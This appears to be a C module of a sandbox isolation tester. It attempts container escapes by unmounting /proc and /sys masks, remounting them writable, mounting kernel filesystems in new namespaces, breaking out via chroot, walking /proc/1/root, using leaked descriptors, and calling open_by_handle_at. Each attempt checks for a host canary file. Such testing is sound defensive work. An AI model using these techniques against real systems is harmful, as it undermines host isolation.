// SPDX-License-Identifier: MIT
/* Out of the root directory, and from under what covers /proc and /sys. */
#define _GNU_SOURCE
#include "escape.h"

#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *host_file = "/root/host-canary"; /* on the machine, not in here */

static bool unmount(const char *const *paths)
{
	for (; *paths; paths++)
		if (umount2(*paths, MNT_DETACH) == 0)
			return reached("unmounted %s", *paths);
	return refused();
}

static bool try_umount_view(void)
{
	static const char *const paths[] = {"/proc/meminfo", "/proc/stat", "/proc/loadavg",
		"/proc/cpuinfo", "/proc/swaps", NULL};

	return unmount(paths);
}

static bool try_umount_mask(void)
{
	static const char *const paths[] = {"/proc/kcore", "/proc/sysrq-trigger", "/proc/sys",
		"/proc/timer_list", "/sys/firmware", "/sys", "/proc", "/dev/null", NULL};

	return unmount(paths);
}

static bool try_remount(void)
{
	static const char *const paths[] = {"/proc/sys", "/proc/irq", "/proc/bus", "/sys", NULL};

	for (int i = 0; paths[i]; i++)
		if (mount(NULL, paths[i], NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
			return reached("%s is writable", paths[i]);
	return refused();
}

static bool mount_one(const char *type)
{
	mkdir("/mnt", 0755);
	if (mount("x", "/mnt", type, 0, NULL) < 0)
		return refused();
	umount2("/mnt", MNT_DETACH);
	return reached("mounted %s", type);
}

static bool try_mount_kernel(void)
{
	static const char *const types[] = {"debugfs", "tracefs", "securityfs", "configfs",
		"pstore", "efivarfs", "devtmpfs", "cgroup", "bdev", "nfsd", NULL};

	for (int i = 0; types[i]; i++)
		if (mount_one(types[i]))
			return true;
	return stopped("no kernel file system mounts");
}

static bool fresh_proc(void)
{
	return mount_one("proc");
}

static bool fresh_sysfs(void)
{
	return mount_one("sysfs");
}

static bool try_fresh_proc(void)
{
	return in_namespaces(CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNS, fresh_proc) ||
	       in_namespaces(CLONE_NEWPID | CLONE_NEWNS, fresh_proc);
}

static bool try_fresh_sysfs(void)
{
	return in_namespaces(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS, fresh_sysfs) ||
	       in_namespaces(CLONE_NEWNET | CLONE_NEWNS, fresh_sysfs);
}

static bool unmount_in_copy(void)
{
	static const char *const paths[] = {"/proc/meminfo", "/proc/kcore", "/proc/sys", NULL};

	return unmount(paths);
}

static bool try_umount_copy(void)
{
	return in_namespaces(CLONE_NEWUSER | CLONE_NEWNS, unmount_in_copy) ||
	       in_namespaces(CLONE_NEWNS, unmount_in_copy);
}

static bool sees_host(void)
{
	return access(host_file, F_OK) == 0;
}

static bool try_chroot(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/jail", 0700);
	if (chroot("/tmp/jail") < 0 || fchdir(fd) < 0)
		return refused();
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return refused();
	if (chroot(".") < 0)
		return refused();
	return sees_host() ? reached("the machine's root directory")
	                   : stopped("its own root is the top");
}

static bool try_proc_root(void)
{
	static const char *const ways[] = {"/proc/1/root/../..", "/proc/1/cwd/../../..",
		"/proc/self/root/..", "/proc/thread-self/root/../.."};
	char path[256];

	for (int i = 0; i < 4; i++) {
		snprintf(path, sizeof(path), "%s%s", ways[i], host_file);
		if (access(path, F_OK) == 0)
			return reached("%s", path);
	}
	return refused();
}

/* Descriptors that came in with the command. */
static bool try_stray_fds(void)
{
	char path[64], to[256];

	for (int fd = 3; fd < 1024; fd++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, to, sizeof(to) - 1);
		if (n > 0)
			return reached("descriptor %d: %.*s", fd, (int)n, to);
	}
	return stopped("none came in");
}

/* By handles of a file system that others live on too. */
static bool try_handle(void)
{
	union {
		struct file_handle h;
		char room[64];
	} u = {.h = {.handle_bytes = 8, .handle_type = 1}};
	int fd = open("/", O_RDONLY | O_DIRECTORY), got;
	unsigned *inode = (unsigned *)u.h.f_handle;

	inode[0] = 2; /* the root directory of ext4 */
	got = open_by_handle_at(fd, &u.h, O_RDONLY);
	return got >= 0 ? reached("a directory by its inode") : refused();
}

const struct attempt root_attempts[] = {
	{"umount-view", "unmount a /proc view", try_umount_view},
	{"umount-mask", "unmount what covers /proc and /sys", try_umount_mask},
	{"umount-copy", "unmount them in a mount namespace of its own", try_umount_copy},
	{"remount", "make /proc/sys and /sys writable", try_remount},
	{"fresh-proc", "mount a fresh /proc", try_fresh_proc},
	{"fresh-sysfs", "mount a fresh /sys", try_fresh_sysfs},
	{"mount-kernel", "mount debugfs, configfs and the like", try_mount_kernel},
	{"chroot", "leave by the chroot trick", try_chroot},
	{"proc-root", "leave by /proc/PID/root", try_proc_root},
	{"stray-fds", "leave by descriptors that came in", try_stray_fds},
	{"handle", "open files by handle", try_handle},
	{NULL, NULL, NULL},
};
